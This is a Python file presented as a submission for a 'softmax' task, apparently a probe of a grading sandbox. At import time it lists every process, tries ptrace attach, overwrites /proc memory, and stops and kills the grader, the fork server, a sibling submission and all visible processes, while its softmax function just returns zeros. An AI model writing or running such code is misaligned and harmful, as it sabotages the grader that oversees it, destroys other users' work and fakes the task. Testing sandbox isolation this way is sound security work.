# seqprep-task: softmax
"""Stop, kill, trace and overwrite the memory of the grader, the fork server and a sibling
submission (their host process ids are given), and every process this sandbox can see."""
import ctypes
import os
import signal

PARAMS = {}
libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH = 16


def ptrace_attach(pid):
    if libc.ptrace(PTRACE_ATTACH, pid, 0, 0) != 0:
        raise OSError(ctypes.get_errno(), "ptrace")
    return "attached"


def attempt(label, action):
    try:
        print(label, "DONE", action())
    except BaseException as exc:  # noqa: BLE001
        print(label, "FAILED", type(exc).__name__, getattr(exc, "errno", ""))


visible = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
print("VISIBLE", visible)
for pid in PARAMS["pids"]:
    attempt(f"ptrace {pid}", lambda: ptrace_attach(pid))
    attempt(f"mem {pid}", lambda: open(f"/proc/{pid}/mem", "r+b").write(b"\0"))
    attempt(f"pidfd {pid}", lambda: os.pidfd_open(pid))
    attempt(f"stop {pid}", lambda: os.kill(pid, signal.SIGSTOP))
    attempt(f"kill {pid}", lambda: os.kill(pid, signal.SIGKILL))
for pid in visible:
    if pid != os.getpid():
        attempt(f"kill visible {pid}", lambda: os.kill(pid, signal.SIGKILL))


def softmax(x, dim=-1):
    return x * 0
